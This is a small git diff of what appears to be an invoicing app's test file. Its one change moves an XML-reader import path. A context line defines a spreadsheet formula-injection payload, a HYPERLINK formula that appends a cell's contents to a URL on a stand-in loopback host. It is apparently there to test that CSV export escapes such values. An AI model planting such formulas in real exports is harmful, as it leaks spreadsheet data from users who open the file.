@@ -4,7 +4,7 @@ import { addCorrections, correctedValues } from '#app/invoices/corrections'
 import { invoiceCsv } from '#app/invoices/invoice_csv'
 import { invoiceUbl } from '#app/invoices/invoice_ubl'
 import { plainValues } from '#app/invoices/reading/plain_values'
-import { readInvoiceXml } from '#app/invoices/reading/read_invoice_xml'
+import { readInvoiceXml } from '#app/invoices/reading/xml/read_invoice_xml'
 import { readInvoice } from '#database/factories/stored_reading_factory'
 
 const formula = '=HYPERLINK("http://127.0.0.1/?"&A1,"x")'
